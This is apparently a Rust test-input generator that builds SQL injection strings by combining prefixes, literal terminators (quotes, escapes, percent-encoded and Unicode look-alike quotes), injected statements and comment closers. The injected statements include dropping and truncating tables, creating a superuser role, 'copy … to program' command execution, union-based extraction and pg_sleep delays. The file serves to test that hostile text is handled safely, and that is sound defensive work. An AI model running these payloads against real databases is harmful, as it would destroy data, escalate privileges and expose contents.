//! Texts that try to be more than a value: SQL behind every end that a literal could have, in anybody's reading of it.

/// What they begin with; `VALID` stands for a value that the type would take.
const BEGINS: [&str; 8] = [
    "",
    "VALID",
    "VALID ",
    "null",
    "{VALID",
    "{\"a\":\"",
    "[VALID",
    "é😀",
];

/// What may end a literal, or be taken for its end once it is decoded, unescaped, folded or cut.
const ENDS: [&str; 36] = [
    "'",
    "\"",
    "''",
    "\\'",
    "\\",
    "\\\\'",
    "$$",
    "$x$",
    "$1",
    ")",
    "')",
    "'))",
    "\";",
    "*/",
    "/*",
    "--",
    "\n",
    "\r\n",
    "\t",
    "';",
    "E'\\'",
    "U&'\\0027",
    "\\u0027",
    "\\x27",
    "%27",
    "%2527",
    "&#39;",
    "\u{2bc}",
    "\u{2019}",
    "\u{ff07}",
    "\u{b4}",
    "\u{bf}'",
    "}",
    "]",
    "\0",
    ":",
];

/// What would be won.
const GAINS: [&str; 32] = [
    "; drop table treasure",
    "; drop table treasure cascade; --",
    "; delete from treasure",
    "; truncate treasure",
    "; update treasure set gold = 0",
    "; insert into treasure values (9, 9)",
    "; create table stolen as select * from treasure",
    "; alter role current_user set work_mem = '1GB'",
    "; create role thief superuser",
    "; set session authorization thief",
    "; commit; drop table treasure",
    "; rollback; begin",
    "; copy treasure to program 'touch /tmp/stolen'",
    "; listen treasure; notify treasure",
    "; select pg_sleep(30)",
    " or 1=1",
    " or true) or (true",
    " and 1 = (select count(*) from treasure)",
    " union select gold::text from treasure",
    " union all select null, null, null",
    " || (select gold from treasure)",
    ", (select gold from treasure)",
    ", value = 'x' where true",
    "::text || chr(39)",
    "::regclass",
    "::int; drop table treasure",
    " collate \"C\"",
    " returning gold",
    " :value :'value' :\"value\"",
    " $1 $2 $99999 $",
    " limit 0",
    ") values ((select gold from treasure",
];

/// What makes the rest of the statement harmless.
const CLOSES: [&str; 12] = [
    "", "--", " -- ", "/*", "'", "\"", "\\", ";", "$$", "')--", "}", "\0",
];

/// One in so many is long: a token with it is just short enough.
const LONG: u64 = 97;
const LENGTH: usize = 2500;

/// The payload of this number for a type that takes `valid`.
pub fn payload(number: u64, valid: &str) -> String {
    // Neighbours have nothing in common: a few of them are as good as the same number of any others.
    let mut rest = number.wrapping_mul(7919);
    let mut pick = |list: &[&'static str]| {
        let picked = list[(rest % list.len() as u64) as usize];
        rest /= list.len() as u64;
        picked
    };
    let (begin, end, gain, close) = (pick(&BEGINS), pick(&ENDS), pick(&GAINS), pick(&CLOSES));
    let begin = begin.replace("VALID", valid);
    let padding = match number.is_multiple_of(LONG) {
        // Two line ends would be the end of a head, and of what is asked there.
        true => end
            .replace(|c: char| c.is_ascii_control(), "x")
            .repeat(LENGTH / end.len()),
        false => String::new(),
    };
    format!("{begin}{padding}{end}{gain}{close}")
}
